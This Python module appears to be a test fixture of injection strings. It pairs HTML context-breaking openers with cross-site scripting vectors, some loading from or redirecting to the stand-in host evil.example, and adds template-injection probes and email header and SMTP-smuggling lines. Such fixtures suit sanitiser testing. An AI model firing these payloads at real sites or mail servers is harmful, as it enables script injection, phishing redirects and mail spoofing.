"""Texts that were written to be more than texts."""

from __future__ import annotations

from itertools import product

HARMLESS = "mot"
OPENERS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</option></select>",
    "&quot;>",
)
VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>mot</a>",
    "<a href=' \x01javascript:alert(1)'>mot</a>",
    "<details open ontoggle=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>mot</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<input autofocus onfocus=alert(1)>",
    "onmouseover=alert(1) x=",
    "' onfocus=alert(1) autofocus tabindex=1 x='",
    '" style="position:fixed" x="',
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<b>\u2028x\ufffe",
    "{% import os %}{{ 7*7 }}${7*7}{0.__class__}%(x)s",
    "javascript:alert(1)",
)
TEXTS = tuple(opener + vector for opener, vector in product(OPENERS, VECTORS))

LINES = (
    "x\r\nBcc: evil@z.example",
    "x\nBcc: evil@z.example",
    "x\rBcc: evil@z.example",
    "=?utf-8?q?x=0D=0ABcc:_evil@z.example?=",
    "=?utf-8?b?eA0KQmNjOiBldmlsQHouZXhhbXBsZQ==?=",
    "\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029Bcc: a",
    "\r\n.\r\nMAIL FROM:<evil@z.example>\r\nRCPT TO:<victim@z.example>\r\nDATA\r\n",
    "\n.\nRCPT TO:<victim@z.example>\n",
    "\r.\rRCPT TO:<victim@z.example>\r",
    "\r\n\r\n<script>alert(1)</script>",
    "\u202eevil\u2066",
    "\x00\x02unsubscribe\x02",
    "--=_boundary--\r\n",
    "=3Cscript=3E=\r\n",
    "\u560d\u560aBcc: evil@z.example",
    "%0d%0aBcc: evil@z.example",
)
